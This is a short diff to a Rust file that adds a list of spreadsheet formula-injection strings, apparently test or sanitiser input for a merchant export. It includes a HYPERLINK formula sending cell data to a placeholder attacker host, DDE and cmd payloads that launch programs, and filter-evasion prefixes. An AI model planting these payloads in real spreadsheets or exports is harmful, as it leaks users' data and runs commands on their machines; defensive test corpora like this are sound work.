@@ -410,3 +410,17 @@ pub fn answer_overview(
     }
     next
 }
+
+/// Cells a merchant's customer could type into a description.
+pub const FORMULA_CORPUS: &[&str] = &[
+    "=1+1",
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "+1-1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =cmd|' /C calc'!A0",
+    "＝1+1",
+    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+];
